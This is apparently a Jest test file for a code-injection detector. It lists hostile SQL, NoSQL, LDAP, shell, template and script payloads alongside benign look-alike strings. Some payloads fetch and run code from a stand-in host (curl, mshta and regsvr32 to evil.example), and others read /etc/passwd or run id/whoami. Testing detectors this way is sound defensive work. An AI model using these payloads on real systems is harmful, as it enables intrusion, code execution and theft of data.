import { describe, expect, it } from "@jest/globals";
import { codeInjection, detect, type InjectionKind } from "../../../src/detectors/index.js";

const HOSTILE: Readonly<Record<InjectionKind, readonly string[]>> = {
  sql: [
    "1 UNION VALUES(1,2,3)",
    "1 UNION TABLE users",
    "1 OR ROWNUM=1",
    "1; COPY users TO PROGRAM 'curl evil.example'",
    "'; ATTACH DATABASE '/var/www/x.php' AS x--",
    "1＇ OR ＇1＇=＇1",
    '{"user":{"$ne":null}}',
    '{"username":{"$gt":""},"password":{"$gt":""}}',
    '{"$where":"this.password.length>0"}',
    "username[$ne]=x&password[$ne]=y",
    '{"name": {"$regex": ".*"}}',
    "*)(uid=*))(|(uid=*",
    "admin)(&)",
  ],
  shell: [
    "||id",
    "a;{cat,/etc/passwd}",
    "a;/???/c?t /???/p??s??",
    "a;$0<<<whoami",
    "a;$(rev<<<'imaohw')",
    "a;w$@hoami",
    "a;vim -c ':!id'",
    "cmd /c whoami",
    "--checkpoint-action=exec=sh",
    "a;source <(curl -s evil.example)",
    "a&mshta http://evil.example/a.hta",
    "a&regsvr32 /s /n /u /i:http://evil.example/a.sct scrobj.dll",
    "a&wmic process call create calc.exe",
    "Start-Process cmd.exe -ArgumentList '/c whoami'",
    'new ProcessBuilder("sh","-c","id").start()',
    'System.Diagnostics.Process.Start("cmd.exe")',
    'Deno.run({cmd:["id"]})',
    'open("|id")',
  ],
  template: [
    "%{7*7}",
    "~{7*7}",
    "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
    '@System.Diagnostics.Process.Start("cmd.exe","/c whoami")',
    '{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,"x",self::clearConfig())}',
    "{{ [].class.base.subclasses() }}",
    "{{ ''.join(['__cl','ass__']) }}",
    "{{ dict(__cla=1,ss__=2)|join }}",
    "{{'/etc/passwd'|file_excerpt(1,30)}}",
    "{{ include('/etc/passwd') }}",
    "{{dump(app)}}",
    "${sessionScope.toString()}",
    "${dns:address|evil.example}",
    "${url:UTF-8:http://evil.example}",
    "｛｛7*7｝｝",
  ],
  script: [
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<svg><set attributeName=onload to=alert(1)>",
    '<div x-data="alert(1)">',
    '<div x-init="fetch(`/x`)">',
    '<div hx-on:click="alert(1)">',
    "<div v-html=\"'<img src=x>'\">",
  ],
};

const INNOCENT: readonly string[] = [
  "Is '1' = 1 true in JavaScript?",
  "Is 1 = 1 always true?",
  "The European union table is the base of 5 union values.",
  "db.users.find({ deletedAt: { $ne: null } })",
  '{ "tags": { "$nin": ["a"] }, "age": { "$gt": 5 }, "name": { "$regex": "^a" } }',
  "The operators $gt, $ne and $where of MongoDB",
  "LDAP: (&(objectClass=user)(cn=*)) or (|(uid=*)(mail=*))",
  "f(a)(b = *)",
  "id;name;date;type",
  "Stop; shutdown is planned for Sunday.",
  "Colours {cat,dog} and /???/ as a path",
  "Use --to-command or cmd / for more",
  "%{name} is required, ~{approx}, {{ dict.word }}, {{ dump }}",
  '<div x-data="{ open: false }" x-init="open = true" hx-on="x">Text</div>',
  "＜重要＞ のお知らせ ジャン＝ポール 価格＝100円",
  "<animate attributeName=href values=/a>",
  "process.start() and Deno.run are functions",
];

describe("code injection", () => {
  it.each(Object.entries(HOSTILE).flatMap(([kind, texts]) => texts.map((text) => [kind, text] as const)))(
    "finds %s in %s",
    (kind, text) => {
      expect(detect(text, [codeInjection({ kinds: [kind as InjectionKind] })])).not.toEqual([]);
    },
  );

  it.each(INNOCENT)("finds nothing in %s", (text) => {
    expect(detect(text, [codeInjection()])).toEqual([]);
  });
});
